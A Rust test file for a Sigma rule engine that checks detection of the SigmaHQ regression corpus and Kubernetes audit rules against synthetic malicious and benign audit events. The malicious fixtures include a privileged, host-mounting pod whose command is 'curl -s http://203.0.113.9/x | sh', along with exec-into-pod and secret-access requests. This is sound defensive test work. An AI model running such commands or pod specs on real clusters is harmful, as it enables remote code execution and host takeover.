//! Conformance against shared data: the SigmaHQ regression corpus (rule + JSON event pairs) and
//! the SigmaHQ Kubernetes audit rules.

use jobwarden_sigma::{Engine, EngineOptions, LoadOptions, LogsourceKind, load_path};
use std::path::PathBuf;

fn shared_dir() -> Option<PathBuf> {
    let dir = std::env::var("JOBWARDEN_SHARED")
        .map(PathBuf::from)
        .unwrap_or_else(|_| PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared")));
    if dir.is_dir() {
        return Some(dir);
    }
    if std::env::var("CI").as_deref() == Ok("true") {
        panic!(
            "shared data not found at {} (set JOBWARDEN_SHARED)",
            dir.display()
        );
    }
    eprintln!(
        "SKIP: shared data not found at {} (set JOBWARDEN_SHARED)",
        dir.display()
    );
    None
}

#[test]
fn sigmahq_regression_corpus() {
    let Some(shared) = shared_dir() else { return };
    let root = shared.join("corpus/sigmahq-regression");
    let mut dirs: Vec<PathBuf> = std::fs::read_dir(&root)
        .expect("read corpus")
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.is_dir())
        .collect();
    dirs.sort();
    let (mut total, mut loaded, mut matched, mut with_needles) = (0, 0, 0, 0);
    let mut with_requirements = 0;
    let mut misses = Vec::new();
    for dir in &dirs {
        let rule_path = dir.join("rule.yml");
        if !rule_path.exists() {
            continue;
        }
        total += 1;
        let report = load_path(&rule_path, &LoadOptions::default());
        if !report.errors.is_empty() || report.rules.is_empty() {
            misses.push(format!("LOAD {}: {:?}", dir.display(), report.errors));
            continue;
        }
        loaded += 1;
        let engine = Engine::new(report.rules, EngineOptions::default()).expect("engine");
        let mut hit = false;
        for entry in std::fs::read_dir(dir).expect("read dir").flatten() {
            let p = entry.path();
            if p.extension().and_then(|e| e.to_str()) != Some("json") {
                continue;
            }
            let text = std::fs::read_to_string(&p).expect("event");
            // One document, an array of them, or several concatenated (pretty-printed) ones.
            let mut events = Vec::new();
            for doc in serde_json::Deserializer::from_str(&text).into_iter::<serde_json::Value>() {
                match doc.expect("event JSON") {
                    serde_json::Value::Array(items) => events.extend(items),
                    other => events.push(other),
                }
            }
            for ev in &events {
                let matched = engine.matches_json(LogsourceKind::Generic, ev);
                // Prefilter soundness on real rules: the compact JSON line holds a needle.
                let line = serde_json::to_string(ev)
                    .expect("json")
                    .to_ascii_lowercase();
                for m in &matched {
                    if let Some(needles) = engine.rule_needles(m.rule_index) {
                        assert!(
                            needles.iter().any(|n| line.contains(n.as_str())),
                            "{}: needles {needles:?} miss a matching event",
                            dir.display()
                        );
                        with_needles += 1;
                    }
                    // Property: every clause of the rule's requirement holds on the line.
                    if let Some(requirement) = engine.requirement(m.rule_index) {
                        assert!(
                            requirement.holds(&line),
                            "{}: requirement {:?} misses a matching event",
                            dir.display(),
                            requirement.clauses
                        );
                        with_requirements += 1;
                    }
                }
                hit |= !matched.is_empty();
            }
        }
        if hit {
            matched += 1;
        } else {
            misses.push(format!("MISS {}", dir.display()));
        }
    }
    eprintln!(
        "sigmahq-regression: {total} rules, {loaded} loaded, {matched} matched their event, {with_needles} matches checked against prefilter needles, {with_requirements} against requirements"
    );
    for m in &misses {
        eprintln!("  {m}");
    }
    assert!(total > 0, "no rules found in {}", root.display());
    assert_eq!(loaded, total, "every regression rule must load");
    assert!(
        matched * 100 >= total * 95,
        "at least 95% must match: {matched}/{total}"
    );
}

fn audit(
    verb: &str,
    resource: &str,
    api_group: &str,
    namespace: &str,
    extra: serde_json::Value,
) -> serde_json::Value {
    let mut ev = serde_json::json!({
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse",
        "auditID": "0d7b6d3c-1d7e-4a5e-9a43-5d2f7c1a9b10",
        "stage": "ResponseComplete",
        "requestURI": format!("/apis/{api_group}/v1/namespaces/{namespace}/{resource}"),
        "verb": verb,
        "user": {"username": "mallory@example.com", "groups": ["system:authenticated"]},
        "sourceIPs": ["203.0.113.7"],
        "userAgent": "kubectl/v1.30.1 (linux/amd64) kubernetes/abc",
        "objectRef": {"resource": resource, "namespace": namespace, "name": "x", "apiGroup": api_group, "apiVersion": "v1"},
        "responseStatus": {"metadata": {}, "code": 200},
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "RBAC: allowed by ClusterRoleBinding"},
        "requestReceivedTimestamp": "2026-11-27T10:00:00.000000Z",
        "stageTimestamp": "2026-11-27T10:00:00.010000Z"
    });
    if let (Some(base), serde_json::Value::Object(more)) = (ev.as_object_mut(), extra) {
        for (k, v) in more {
            if let (Some(serde_json::Value::Object(inner)), serde_json::Value::Object(add)) =
                (base.get_mut(&k), &v)
            {
                inner.extend(add.clone());
            } else {
                base.insert(k, v);
            }
        }
    }
    ev
}

fn pod_spec() -> serde_json::Value {
    serde_json::json!({
        "hostPID": true,
        "volumes": [{"name": "root", "hostPath": {"path": "/", "type": ""}}],
        "containers": [{
            "name": "c", "image": "alpine:3.20", "command": ["sh", "-c", "curl -s http://203.0.113.9/x | sh"],
            "securityContext": {"privileged": true, "capabilities": {"add": ["SYS_ADMIN"]}}
        }]
    })
}

fn malicious_events() -> Vec<serde_json::Value> {
    use serde_json::json;
    vec![
        audit(
            "create",
            "cronjobs",
            "batch",
            "default",
            json!({"requestObject": {"kind": "CronJob", "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": pod_spec()}}}}}}),
        ),
        audit("patch", "jobs", "batch", "default", json!({})),
        audit(
            "create",
            "pods",
            "",
            "kube-system",
            json!({"requestObject": {"kind": "Pod", "spec": pod_spec()}}),
        ),
        audit(
            "create",
            "pods",
            "",
            "default",
            json!({"objectRef": {"subresource": "exec"}, "requestURI": "/api/v1/namespaces/default/pods/x/exec?command=sh"}),
        ),
        audit("list", "secrets", "", "default", json!({})),
        audit("delete", "secrets", "", "default", json!({})),
        audit(
            "create",
            "clusterrolebindings",
            "rbac.authorization.k8s.io",
            "",
            json!({}),
        ),
        audit(
            "update",
            "mutatingwebhookconfigurations",
            "admissionregistration.k8s.io",
            "",
            json!({}),
        ),
        audit("delete", "events", "", "default", json!({})),
        audit("delete", "deployments", "apps", "default", json!({})),
        audit("patch", "deployments", "apps", "default", json!({})),
        audit("create", "serviceaccounts", "", "default", json!({})),
        audit(
            "create",
            "selfsubjectrulesreviews",
            "authorization.k8s.io",
            "",
            json!({}),
        ),
        audit(
            "get",
            "secrets",
            "",
            "default",
            json!({"responseStatus": {"code": 403}}),
        ),
        audit(
            "get",
            "pods",
            "",
            "default",
            json!({"responseStatus": {"code": 401}}),
        ),
        audit(
            "get",
            "pods",
            "",
            "default",
            json!({"userAgent": "trufflehog/3.0", "requestURI": "/api/v1/namespaces/default/pods/x/exec?command=%2Fbin%2Fsh"}),
        ),
    ]
}

fn benign_events() -> Vec<serde_json::Value> {
    use serde_json::json;
    vec![
        audit(
            "get",
            "pods",
            "",
            "default",
            json!({"user": {"username": "system:node:worker-1"}}),
        ),
        audit(
            "update",
            "leases",
            "coordination.k8s.io",
            "kube-node-lease",
            json!({}),
        ),
        audit("list", "configmaps", "", "default", json!({})),
        audit("watch", "deployments", "apps", "default", json!({})),
        audit(
            "patch",
            "pods",
            "",
            "default",
            json!({"objectRef": {"subresource": "status"}}),
        ),
        audit(
            "create",
            "tokenreviews",
            "authentication.k8s.io",
            "",
            json!({}),
        ),
        audit("get", "cronjobs", "batch", "default", json!({})),
    ]
}

#[test]
fn sigmahq_kubernetes_rules() {
    use jobwarden_sigma::{Event as _, JsonEvent, k8s_sigmahq_map};
    let Some(shared) = shared_dir() else { return };
    let dir = shared.join("corpus/sigmahq-kubernetes-rules");
    let report = load_path(&dir, &LoadOptions::default());
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    let files = std::fs::read_dir(&dir).expect("dir").count();
    assert_eq!(report.rules.len(), files, "every file holds one rule");
    let malicious = malicious_events();
    let benign = benign_events();
    let sigmahq = || EngineOptions {
        k8s_audit: k8s_sigmahq_map(),
        ..EngineOptions::default()
    };
    for (label, options) in [
        ("raw", EngineOptions::default()),
        ("sigmahq-map", sigmahq()),
        (
            "sigmahq-map+key-context",
            EngineOptions {
                key_context_needles: true,
                ..sigmahq()
            },
        ),
    ] {
        let engine = Engine::new(report.rules.clone(), options).expect("engine");
        let flagged: std::collections::HashSet<String> = engine
            .lint()
            .into_iter()
            .filter(|w| w.kind == jobwarden_sigma::LintKind::NeverFires)
            .map(|w| w.rule_id)
            .collect();
        let mut fired = std::collections::HashSet::new();
        for ev in &malicious {
            let line = serde_json::to_string(ev)
                .expect("json")
                .to_ascii_lowercase();
            for m in engine.matches_json(LogsourceKind::K8sAudit, ev) {
                // Prefilter soundness: a matching event contains one of its rule's needles.
                if let Some(needles) = engine.rule_needles(m.rule_index) {
                    assert!(
                        needles.iter().any(|n| line.contains(n.as_str())),
                        "{label}: {} needles {needles:?}",
                        m.title
                    );
                }
                // ... and every clause of its requirement.
                if let Some(requirement) = engine.requirement(m.rule_index) {
                    assert!(
                        requirement.holds(&line),
                        "{label}: {} requirement {:?}",
                        m.title,
                        requirement.clauses
                    );
                }
                fired.insert(m.id);
            }
        }
        for ev in &benign {
            let hits = engine.matches_json(LogsourceKind::K8sAudit, ev);
            assert!(
                hits.is_empty(),
                "{label}: benign event fired {:?}: {ev}",
                hits.iter().map(|h| &h.title).collect::<Vec<_>>()
            );
        }
        for r in engine.rules() {
            if flagged.contains(&r.id) {
                assert!(
                    !fired.contains(&r.id),
                    "{label}: lint says `{}` cannot fire, but it did",
                    r.title
                );
            } else {
                assert!(
                    fired.contains(&r.id),
                    "{label}: `{}` did not fire on any malicious event",
                    r.title
                );
            }
        }
        eprintln!(
            "{label}: {} rules, {} fired, {} flagged by lint, needles: {}",
            engine.rules().len(),
            fired.len(),
            flagged.len(),
            engine.needles_for(LogsourceKind::K8sAudit).map_or(
                "none (some rule sees every event)".to_string(),
                |n| format!("{n:?}")
            )
        );
        // The derived mapping reaches into CronJob pod templates.
        let map = engine.field_map(LogsourceKind::K8sAudit).clone();
        if label.starts_with("sigmahq-map") {
            let first = malicious.first().expect("event");
            assert!(!JsonEvent::new(first, &map).field("hostPath").is_empty());
        }
    }
}
